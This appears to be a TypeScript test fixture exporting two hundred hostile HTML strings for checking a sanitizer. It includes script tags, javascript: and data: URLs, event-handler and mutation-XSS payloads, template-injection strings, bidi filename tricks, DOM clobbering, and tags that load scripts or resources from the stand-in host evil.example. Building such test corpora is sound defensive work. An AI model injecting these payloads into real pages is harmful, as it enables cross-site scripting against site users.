/** Two hundred texts that try to run, to reach out, to cover the page or to turn it around (SECURITY §4, T-X1). */

const run = 'window.__ran=1;alert(1)'
const out = 'https://evil.example'

const wholes = [
  `<script>${run}</script>`, `<ScRiPt>${run}</ScRiPt>`, `<script src="${out}/a.js"></script>`, `<script type="module">import("${out}/b.js")</script>`, `<script\n>${run}</script\n>`, `<<script>${run}//<</script>`,
  `<svg><script>${run}</script></svg>`, `<svg><script href="${out}/c.js"/></svg>`, `<math><mi xlink:href="javascript:${run}">x</mi></math>`, `<svg><a xlink:href="javascript:${run}"><text y="20">x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x"/></svg>`, `<svg><animate onbegin="${run}" attributeName="x" dur="1s"/></svg>`, `<svg><set attributeName="href" to="javascript:${run}"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></iframe></foreignObject></svg>`, `<iframe src="javascript:${run}"></iframe>`, `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`, `<iframe src="${out}/frame"></iframe>`,
  `<object data="javascript:${run}"></object>`, `<object data="${out}/o"></object>`, `<embed src="${out}/e">`, `<applet code="x"></applet>`, `<base href="${out}/">`, `<meta http-equiv="refresh" content="0;url=${out}/">`, `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `<link rel="stylesheet" href="${out}/s.css">`, `<link rel="prefetch" href="${out}/p">`, `<link rel="dns-prefetch" href="${out}">`, `<style>@import "${out}/i.css";</style>`, `<style>*{background:url(${out}/bg)}</style>`, `<style>body{display:none}</style>`,
  `<div style="position:fixed;inset:0;z-index:9999;background:red">x</div>`, `<p style="background:url(${out}/st)">x</p>`, `<table background="${out}/tb"><tr><td background="${out}/td">x</td></tr></table>`, `<form action="${out}/f"><input name="p"><button>x</button></form>`,
  `<input autofocus onfocus="${run}">`, `<button formaction="javascript:${run}">x</button>`, `<textarea autofocus onfocus="${run}">x</textarea>`, `<select autofocus onfocus="${run}"><option>x</option></select>`, `<keygen autofocus onfocus="${run}">`,
  `<img src="${out}/i.png">`, `<img srcset="${out}/ss.png 1x">`, `<picture><source srcset="${out}/pc.png"><img src="x"></picture>`, `<video src="${out}/v"></video>`, `<video poster="${out}/po"></video>`, `<audio src="${out}/au" autoplay></audio>`, `<track src="${out}/t">`,
  `<a href="javascript:${run}">x</a>`, `<a href="JaVaScRiPt:${run}">x</a>`, `<a href=" javascript:${run}">x</a>`, `<a href="java&#x09;script:${run}">x</a>`, `<a href="&#106;avascript:${run}">x</a>`, `<a href="data:text/html,<script>${run}</script>">x</a>`, `<a href="vbscript:x">x</a>`, `<a href="//evil.example">x</a>`, `<a href="/\\evil.example">x</a>`,
  `<a ping="${out}/ping" href="https://example.com">x</a>`, `<area href="javascript:${run}">`, `<details open ontoggle="${run}">x</details>`, `<marquee onstart="${run}">x</marquee>`, `<body onload="${run}">`, `<html onmouseover="${run}">`, `<frameset onload="${run}">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`, `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<!--><img src=x onerror=${run}>-->`, `<![CDATA[<img src=x onerror=${run}>]]>`, `<?xml version="1.0"?><img src=x onerror=${run}>`, `<template><img src=x onerror=${run}></template>`, `<slot onslotchange="${run}">x</slot>`, `<x-y onclick="${run}" tabindex=1 id=x>x</x-y>`, `<title></title><img src=x onerror=${run}>`, `<xmp><img src=x onerror=${run}></xmp>`, `<plaintext><img src=x onerror=${run}>`,
  `"><img src=x onerror=${run}>`, `'><img src=x onerror=${run}>`, `--><img src=x onerror=${run}>`, `</script><script>${run}</script>`, `</textarea><script>${run}</script>`, `</title><script>${run}</script>`, `</style><script>${run}</script>`, '{{constructor.constructor("alert(1)")()}}', '${alert(1)}', '<%= alert(1) %>', '\u202egnp.exe', 'abc\u2066\u202edef', 'javascript:alert(1)',
  `<div id="root"></div><div id="page-data">{}</div>`, `<img name="getElementById">`, `<form name="body"></form>`, `<a id="defaultView" name="defaultView" href="x:1">x</a>`, `<img src="/files/../api/wps/session/logout">`, `<img src="data:image/svg+xml,<svg onload='${run}'/>">`, '<b>not closed', '<p><p><p></div></td></table>',
]

const events = [
  'onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'onblur', 'onanimationstart', 'onanimationend', 'ontransitionend', 'onpointerenter', 'onpointerdown', 'onwheel', 'onscroll', 'oncopy', 'onpaste', 'oninput', 'onbeforeinput', 'onsubmit',
  'ontoggle', 'onbeforetoggle', 'oncanplay', 'onloadstart', 'onresize', 'onhashchange', 'onpageshow', 'onmessage', 'onsecuritypolicyviolation', 'onauxclick', 'oncontextmenu', 'ondragstart', 'onkeydown', 'onselectstart', 'ongotpointercapture', 'onbegin', 'onstart', 'onfinish',
]
const carriers = [(event: string) => `<img src=x ${event}="${run}">`, (event: string) => `<svg ${event}=${run}>`, (event: string) => `<p tabindex=1 ${event.toUpperCase()}='${run}'>x</p>`, (event: string) => `<a/href="#"/${event}="${run}">x</a>`]

export const hostileTexts: readonly string[] = [...wholes, ...carriers.flatMap((carry) => events.map(carry))].slice(0, 200)
